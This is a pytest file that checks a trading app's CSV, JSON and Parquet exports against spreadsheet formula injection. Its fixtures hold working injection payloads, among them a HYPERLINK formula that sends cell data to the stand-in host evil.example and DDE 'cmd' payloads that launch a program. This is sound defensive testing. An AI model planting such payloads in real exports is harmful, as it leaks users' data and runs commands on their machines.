"""Every CSV export is safe to open in a spreadsheet: text a scanner or a trader wrote (strategy,
verdicts, context values) that would start a formula arrives as text with a leading single quote
(OWASP, "CSV Injection"), while numbers, negative ones included, stay numbers. JSON and Parquet
carry the same text exactly as stored.

The exports: the trade export (`/api/trades/export`), the learning data set (`/api/analytics/
dataset` and `manage.py export_dataset`).
"""

import csv
import io
import json
from decimal import Decimal

import pyarrow.parquet as pq
import pytest
from django.core.management import call_command
from django.utils.safestring import SafeString

from tests.factories import ClosedTradeFactory
from tradeoptions.csvstream import csv_lines, spreadsheet_safe
from trades.models import CloseReason

FORMULAS = {
    "strategy": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "ai_verdict": "+cmd|' /C calc'!A0",
    "gate_verdict": "@SUM(1+1)*cmd",
}
CONTEXT_FORMULAS = {"5m": {"rsi14": "-2+3+cmd|' /C calc'!A0", "trend": "\tTAB", "squeeze": "\r=1+1"}}


@pytest.fixture
def loser(trader):
    """A losing trade (P&L -80.00) whose words and context were written to attack a spreadsheet."""
    return ClosedTradeFactory(owner=trader, qty=1, entry_price=Decimal("2.00"), sl_price=Decimal("1.50"),
                              close_price=Decimal("1.20"), realized_pnl_pct=Decimal("-40.00"),
                              close_reason=CloseReason.SL_HIT, signals_snapshot=CONTEXT_FORMULAS,
                              market_regime={"spy_change_pct": -0.35, "vix": 14.2}, **FORMULAS)


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _streamed(response) -> str:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize(("cell", "written"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("-", "'-"),
    ("-12.50", "-12.50"), ("+3", "+3"), ("-1e-5", "-1e-5"), ("-.5", "-.5"), ("momentum", "momentum"), ("", ""),
    ("a=1", "a=1"), (Decimal("-12.50"), Decimal("-12.50")), (-3, -3), (None, None), (SafeString("=1"), "'=1"),
])
def test_a_cell_is_quoted_only_when_a_spreadsheet_would_run_it(cell, written):
    assert spreadsheet_safe(cell) == written
    plain = io.StringIO()
    csv.writer(plain).writerow([written])
    assert list(csv_lines(["h"], [[cell]]))[1] == plain.getvalue()  # and csv_lines writes it so


def test_the_trade_export_quotes_formulas_and_keeps_a_loss_a_number(api_as, trader, loser):
    row = _rows(_streamed(api_as(trader).get("/api/trades/export?format=csv")))[0]
    assert {name: row[name] for name in FORMULAS} == {name: "'" + text for name, text in FORMULAS.items()}
    assert row["realized_pnl"] == "-80.00" and row["realized_pnl_pct"] == "-40.0000"
    assert json.loads(row["signals_snapshot"]) == CONTEXT_FORMULAS  # JSON text starts with "{": nothing to quote


def test_the_trade_export_as_json_is_exact(api_as, trader, loser):
    rows = json.loads(_streamed(api_as(trader).get("/api/trades/export?format=json")))
    assert {name: rows[0][name] for name in FORMULAS} == FORMULAS and rows[0]["realized_pnl"] == "-80.00"


def test_the_data_set_quotes_formulas_in_words_and_context_and_keeps_numbers(api_as, trader, loser):
    row = _rows(_streamed(api_as(trader).get("/api/analytics/dataset?format=csv")))[0]
    assert {name: row[name] for name in FORMULAS} == {name: "'" + text for name, text in FORMULAS.items()}
    assert row["signals_5m_rsi14"] == "'" + CONTEXT_FORMULAS["5m"]["rsi14"]
    assert row["signals_5m_trend"] == "'\tTAB" and row["signals_5m_squeeze"] == "'\r=1+1"
    assert row["realized_pnl"] == "-80.00" and row["regime_spy_change_pct"] == "-0.35"
    assert row["r_multiple"] == "-1.6000"


def test_the_data_set_as_parquet_is_exact(api_as, trader, loser):
    response = api_as(trader).get("/api/analytics/dataset?format=parquet")
    table = pq.read_table(io.BytesIO(response.content)).to_pylist()[0]
    assert {name: table[name] for name in FORMULAS} == FORMULAS
    assert table["signals_5m_rsi14"] == CONTEXT_FORMULAS["5m"]["rsi14"]


def test_the_export_dataset_command_writes_the_same_safe_csv(trader, loser, tmp_path):
    target = tmp_path / "alice.csv"
    call_command("export_dataset", "alice", "--output", str(target))
    row = _rows(target.read_text())[0]
    assert row["strategy"] == "'" + FORMULAS["strategy"] and row["realized_pnl"] == "-80.00"
